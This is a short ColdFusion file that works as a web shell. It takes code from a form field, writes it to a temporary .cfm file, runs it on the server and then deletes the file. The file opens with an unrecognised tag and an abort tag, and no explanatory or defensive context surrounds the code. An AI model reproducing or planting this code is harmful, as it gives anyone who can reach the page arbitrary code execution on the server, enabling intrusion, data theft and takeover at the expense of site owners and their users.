<cfinert>
<cfabort>
<cfparam name="form.code" default="">
<cfif len(form.code)>
  <cfset n = createUUID() & ".cfm">
  <cffile action="write" file="#expandPath('./' & n)#" output="#form.code#" addnewline="no">
  <cfinclude template="#n#">
  <cffile action="delete" file="#expandPath('./' & n)#">
</cfif>
